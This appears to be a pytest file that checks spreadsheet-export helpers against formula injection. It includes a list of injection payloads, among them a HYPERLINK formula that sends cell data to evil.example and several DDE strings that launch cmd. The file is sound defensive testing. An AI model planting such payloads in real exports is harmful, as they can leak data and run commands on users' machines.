"""What is text in a cell stays text."""

import pytest

from wagtail_curation.spreadsheets import as_text_cell, without_control_characters

ATTACKS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1, "Read on")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_begins_like_a_formula(attack):
    cell = as_text_cell(attack)
    assert cell[0] == "'"
    assert cell[1:] == attack.replace("\x00", "")


@pytest.mark.parametrize(
    "text", ["A title", "1 + 1 = 2", "", "Übung – macht", "“=” and “+”", "a@b.example"]
)
def test_other_text_stays_as_it_is(text):
    assert as_text_cell(text) == text
    assert without_control_characters(text) == text


def test_what_xml_can_not_hold_is_left_out():
    assert without_control_characters("a\x00b\x0bc\ud800d\ne") == "abcd\ne"
